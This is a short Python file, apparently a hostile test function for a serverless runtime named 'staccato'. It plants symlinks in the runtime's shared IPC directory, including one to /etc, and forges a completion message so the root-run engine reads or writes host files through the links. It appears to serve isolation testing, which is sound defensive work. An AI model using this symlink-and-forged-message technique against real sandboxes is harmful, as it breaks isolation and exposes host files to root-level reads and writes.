import asyncio
import json
import os
import time

from staccato import wire


async def handle(ctx, data: bytes) -> bytes:
    """A hostile function: leaves a link to a host path where its output
    file goes, then says its output is in that file, hoping the engine (as
    root) reads the link's target and answers with it."""
    req = json.loads(data)
    ipc = os.environ["STACCATO_IPC_DIR"]
    if req.get("swap"):
        # Swap the payload directory for a link to a host directory, or
        # add a link beside the channels: the engine would then write and
        # chown there as root.
        out = {}
        for what, act in [("rename", lambda: os.rename(os.path.join(ipc, "shm"), os.path.join(ipc, "shm-old"))),
                          ("symlink", lambda: os.symlink("/etc", os.path.join(ipc, "etc"))),
                          ("unlink-channel", lambda: os.unlink(os.path.join(ipc, "0.e2w")))]:
            try:
                act()
                out[what] = "done"
            except OSError as e:
                out[what] = f"ERR {e.errno}"
        return json.dumps(out).encode()
    name = wire.shm_file_name(ctx.call_id, wire.COMPLETION)
    os.symlink(req["target"], os.path.join(os.environ["STACCATO_IPC_DIR"], "shm", name))
    ch = ctx._channel
    ch.send(wire.pack(wire.COMPLETION, wire.PAYLOAD_IN_SHM, req["len"], ctx.call_id, ctx.parent_call_id,
                      ch.worker_id, 0, 0, 0, time.monotonic_ns(), 0, b""))
    await asyncio.sleep(0.2)
    return b"the runtime's own answer"
